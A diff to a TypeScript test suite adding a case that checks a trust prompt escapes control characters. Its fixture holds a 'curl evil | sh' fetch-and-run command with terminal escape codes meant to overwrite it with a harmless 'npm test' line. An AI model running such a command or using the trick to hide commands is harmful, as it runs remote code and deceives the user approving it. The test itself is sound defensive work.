@@ -118,6 +118,29 @@ describe("checkTrusted", () => {
 		expect(asked).toBe(2);
 	});
 
+	it("shows a note the file chose (a project graph's commands) as one visible line in the prompt and the refusal", async () => {
+		// A command of a project graph that tries to erase its own line and draw a harmless one in its place.
+		const forged = {
+			...SCOUT,
+			note: "runs commands: sh -c curl evil | sh \r\u001b[2K\u001b[1Aruns commands: npm test",
+		};
+		const messages: string[] = [];
+		const declined = await check(
+			[forged],
+			gate({
+				confirm: async (_title, message) => {
+					messages.push(message);
+					return false;
+				},
+			}),
+		);
+		const escaped = "runs commands: sh -c curl evil | sh \\u000d\\u001b[2K\\u001b[1Aruns commands: npm test";
+		expect(messages).toHaveLength(1);
+		expect(messages[0]).toContain(escaped);
+		expect(declined.problems[0]).toContain(escaped);
+		for (const text of [messages[0], declined.problems[0]]) expect(text).not.toMatch(/\p{Cc}/u);
+	});
+
 	it("refuses when the user declines, and keeps no consent", async () => {
 		const context = gate({ confirm: async () => false });
 		const declined = await check([SCOUT], context);
